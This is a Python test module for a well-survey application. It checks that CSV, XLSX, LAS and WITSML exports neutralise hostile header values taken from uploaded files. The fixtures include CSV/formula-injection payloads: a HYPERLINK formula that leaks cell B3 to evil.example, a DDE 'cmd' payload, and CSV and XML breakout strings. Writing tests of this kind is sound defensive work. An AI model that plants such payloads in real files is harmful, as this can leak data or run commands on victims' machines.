"""Text from an uploaded file cannot become a formula, a new CSV field or record, a new LAS line
or new XML in any export: generated hostile header values, checked field by field (CSV through
the csv module, XLSX through openpyxl and its sheet XML, LAS line by line, WITSML with an XML
parser); numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import defusedxml.ElementTree as DET
import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from surveylab.exporters import export
from surveylab.exporters._common import (
    header_lines,
    looks_like_formula,
    neutralise,
    single_line,
    xml_safe,
    xml_text,
)
from surveylab.models import DepthUnit, NorthReference, TieOn
from surveylab.models.survey import ParsedSurvey, SurveyHeader
from surveylab.parsers import read_survey

#: What an attacker starts a value with: the OWASP list, its full-width and small look-alikes,
#: blanks before it, and line breaks.
TRIGGERS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\uff1d",  # FULLWIDTH EQUALS SIGN
    "\ufe66",  # SMALL EQUALS SIGN
    "\uff0b",  # FULLWIDTH PLUS SIGN
    "\ufe62",  # SMALL PLUS SIGN
    "\uff0d",  # FULLWIDTH HYPHEN-MINUS
    "\ufe63",  # SMALL HYPHEN-MINUS
    "\uff20",  # FULLWIDTH COMMERCIAL AT
    "\u2212",  # MINUS SIGN
    " =",
    "  @",
]
PAYLOADS = [
    "1+2",
    'HYPERLINK("http://evil.example/?leak="&B3,"Click")',
    "cmd|' /C calc'!A0",
    "SUM(1,2)",
    "",
]
#: Pieces that try to leave the field, the record or the element.
BREAKOUTS = [
    ",",
    ";",
    '"',
    '",=1+2,"',
    "\r\n=2+3",
    "\n~A",
    "</nameWell><x/>",
    "]]>",
    "\x00",
    "\x1b",
]

hostile = st.builds(
    lambda trigger, payload, rest: trigger + payload + rest,
    st.sampled_from(TRIGGERS),
    st.sampled_from(PAYLOADS),
    st.lists(st.sampled_from(BREAKOUTS) | st.text(max_size=6), max_size=4).map("".join),
) | st.text(max_size=30)

TEXT_FIELDS = (
    "well_name",
    "wellbore_name",
    "run_name",
    "tool",
    "survey_date",
    "depth_datum",
    "crs",
    "calculation_method",
    "operator",
)


def _survey(values: dict[str, str]) -> ParsedSurvey:
    md = np.array([0.0, 100.0, 200.0, 300.0])
    stations = pd.DataFrame(
        {
            "md": md,
            "inc": [0.0, 5.0, 10.0, 12.5],
            "azi": [0.0, 200.0, 210.0, 215.0],
            "projected": [False, False, False, True],
            "used": [True, True, True, True],
        }
    )
    header = SurveyHeader(
        depth_unit=DepthUnit.M,
        azimuth_reference=NorthReference.GRID,
        declination=-1.5,
        tie_on=TieOn(0.0, 0.0, 0.0, 0.0, -3.0, -4.0),
        **values,
    )
    return ParsedSurvey(format="csv", source_name="x.csv", header=header, stations=stations)


def _computed(survey: ParsedSurvey):
    from surveylab.calc import compute_trajectory

    st_ = survey.stations
    return compute_trajectory(
        st_["md"], st_["inc"], st_["azi"], depth_unit=DepthUnit.M, tie_on=survey.header.tie_on
    )


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


header_values = st.fixed_dictionaries({f: hostile for f in TEXT_FIELDS})
few = hsettings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])


# ------------------------------------------------------------------------------- CSV
@few
@given(values=header_values)
def test_csv_fields_are_fields_and_no_text_field_can_be_a_formula(values):
    survey = _survey(values)
    data = export(survey, "csv", _computed(survey)).decode("utf-8")
    records = list(csv.reader(io.StringIO(data, newline="")))
    expected_header = [f"# {k}: {v}" for k, v in header_lines(survey.header)]
    assert records[0] == ["# surveylab survey export"]
    # one field per header line, holding the whole value on one line
    got_header = records[1 : 1 + len(expected_header)]
    assert got_header == [[line] for line in expected_header]
    for (line,) in got_header:
        assert "\n" not in line and "\r" not in line
    names = records[1 + len(expected_header)]
    assert names[:3] == ["MD [m]", "Inc [deg]", "Azi [deg]"]
    rows = records[2 + len(expected_header) :]
    assert len(rows) == 4 and all(len(r) == len(names) for r in rows)
    for record in records:
        for field in record:
            assert _is_number(field) or not looks_like_formula(field), field
    # numbers stay numbers: negative positions are plain numbers, not neutralised text
    north = [float(r[names.index("North [m]")]) for r in rows]
    assert min(north) < 0 and all(not r[names.index("North [m]")].startswith("'") for r in rows)


@few
@given(values=header_values)
def test_csv_export_reads_back_with_the_same_stations(values):
    survey = _survey(values)
    back = read_survey(export(survey, "csv"), name="back.csv")
    np.testing.assert_array_equal(back.stations["md"], survey.stations["md"])
    np.testing.assert_array_equal(back.stations["azi"], survey.stations["azi"])


def test_a_comma_in_a_header_value_no_longer_starts_a_cell():
    """The case of the review: ``=HYPERLINK`` after a comma in a header value."""
    attack = 'x,=HYPERLINK("http://evil.example/?leak="&B3,"Click")'
    data = export(_survey({"well_name": attack}), "csv").decode()
    (line,) = [r for r in csv.reader(io.StringIO(data)) if r and "Well name" in r[0]]
    assert line == [f"# Well name: {attack}"]
    assert (
        data.splitlines()[1]
        == '"# Well name: x,=HYPERLINK(""http://evil.example/?leak=""&B3,""Click"")"'
    )
    # read back by surveylab, the value is the same
    assert read_survey(data.encode(), name="b.csv").header.well_name == attack


# ------------------------------------------------------------------------------- XLSX
def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(
            z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")
        )


@few
@given(values=header_values)
def test_xlsx_has_no_formula_cell_and_keeps_every_text(values):
    survey = _survey(values)
    data = export(survey, "xlsx", _computed(survey))
    assert "<f>" not in _sheet_xml(data) and "<f " not in _sheet_xml(data)
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for _label, value in header_lines(survey.header):
        if not value:
            continue  # an empty text cell reads back as no value
        cell = texts[value]  # the value, as text, in a cell of its own
        assert cell.data_type == "s"
        # a text Excel could turn into a formula once edited keeps its quote prefix
        assert cell.quotePrefix == looks_like_formula(value)
    numbers = [c.value for c in cells if c.data_type == "n"]
    assert any(v < 0 for v in numbers)  # negative numbers are number cells


def test_a_formula_header_value_is_text_in_the_workbook():
    data = export(_survey({"well_name": "=1+2"}), "xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    (cell,) = [c for row in ws.iter_rows() for c in row if c.value == "=1+2"]
    assert cell.data_type == "s" and cell.quotePrefix
    assert read_survey(data, name="b.xlsx").header.well_name == "=1+2"


# ------------------------------------------------------------------------------- LAS
@few
@given(values=header_values)
def test_las_values_stay_on_their_line(values):
    survey = _survey(values)
    text = export(survey, "las").decode("utf-8")
    lines = text.split("\n")
    sections = [line for line in lines if line.startswith("~")]
    assert sections == ["~Version Information", "~Well Information", "~Curve Information", "~A"]
    for name in ("WELL", "WBN", "RUN", "SVYT", "DATE", "CCDE", "COMP"):
        (item,) = [line for line in lines if line.startswith(f" {name:<6}.")]
        assert "\r" not in item
    back = read_survey(text.encode(), name="b.las")
    np.testing.assert_array_equal(back.stations["md"], survey.stations["md"])


# ------------------------------------------------------------------------------- WITSML
@few
@given(values=header_values, fmt=st.sampled_from(["witsml14", "witsml20"]))
def test_witsml_text_is_text(values, fmt):
    survey = _survey(values)
    data = export(survey, fmt)
    root = DET.fromstring(data)  # well-formed XML, whatever the values held
    ns = "{http://www.witsml.org/schemas/1series}" if fmt == "witsml14" else ""
    everything = list(root.iter())
    stations = [e for e in everything if e.tag.endswith("rajectoryStation")]
    assert len(stations) == 4
    if fmt == "witsml14":
        (name,) = root.iter(f"{ns}nameWell")
        assert name.text == xml_text(values["well_name"]) or (
            name.text is None and values["well_name"] == ""
        )
        assert not [e for e in everything if e.tag.endswith("}x")]
    back = read_survey(data, name=f"b.{fmt}.xml")
    np.testing.assert_array_equal(back.stations["md"], survey.stations["md"])


# ------------------------------------------------------------------------------- the rules
@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\uff1d1+2", "'\uff1d1+2"),
        ("\u22121", "'\u22121"),
        ("a=1", "a=1"),
        ("15/9-F-11", "15/9-F-11"),
        ("# Well: =1", "# Well: =1"),
        ("", ""),
        ("   ", "   "),
    ],
)
def test_neutralise(text, safe):
    assert neutralise(text) == safe


@hsettings(max_examples=300)
@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_only_gains_an_apostrophe(text):
    out = neutralise(text)
    assert out in (text, "'" + text)
    assert not looks_like_formula(out)
    assert not out or out[0] not in "=+-@\t\r"


@hsettings(max_examples=300)
@given(st.text())
def test_single_line_and_xml_safe(text):
    assert len(single_line(text).splitlines()) <= 1
    cleaned = xml_safe(text)
    assert len(cleaned) == len(text)
    DET.fromstring(f"<a>{cleaned.replace('&', '&amp;').replace('<', '&lt;')}</a>".encode())


@hsettings(max_examples=300)
@given(st.text())
def test_xml_text_is_what_an_xml_parser_reads_back(text):
    """Whatever the text, an element holding xml_text(text) parses back to exactly it (line
    ends included: XML 1.0, section 2.11)."""
    written = xml_text(text)
    escaped = written.replace("&", "&amp;").replace("<", "&lt;")
    assert (DET.fromstring(f"<a>{escaped}</a>".encode()).text or "") == written


# ------------------------------------------------------------------------------- stored surveys
def test_a_stored_survey_exports_safely_as_the_dashboards_export_it(settings, people):
    """Upload a file whose header carries the attack, export the stored revision through the
    export service (what the runs dashboard's Export button calls): text, never formulas."""
    from surveylab.demo import vendor_csv, well_profile
    from surveylab.repositories import UnitOfWork
    from surveylab.services import runs, surveys
    from surveylab.services.exports import export_survey

    attack = '=1+2,=HYPERLINK("http://evil.example/?leak="&B3,"Click")'
    runs.create_run(UnitOfWork(settings), people["surveyor"], run_number="X-1", run_name="x")
    content = vendor_csv(well_profile("J"), well=attack, run="X-1", tool="@MWD")
    surveys.import_survey(
        UnitOfWork(settings), people["surveyor"], run="X-1", content=content, file_name="x.csv"
    )
    _name, data = export_survey(UnitOfWork(settings), people["viewer"], "X-1", "xlsx")
    assert "<f>" not in _sheet_xml(data)
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = {c.value: c for row in ws.iter_rows() for c in row if c.value is not None}
    assert cells[attack].data_type == "s" and cells[attack].quotePrefix
    assert cells["@MWD"].data_type == "s" and cells["@MWD"].quotePrefix
    _name, data = export_survey(UnitOfWork(settings), people["viewer"], "X-1", "csv")
    records = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert [f"# Well name: {attack}"] in records and ["# Tool: @MWD"] in records
    assert all(_is_number(f) or not looks_like_formula(f) for r in records for f in r)
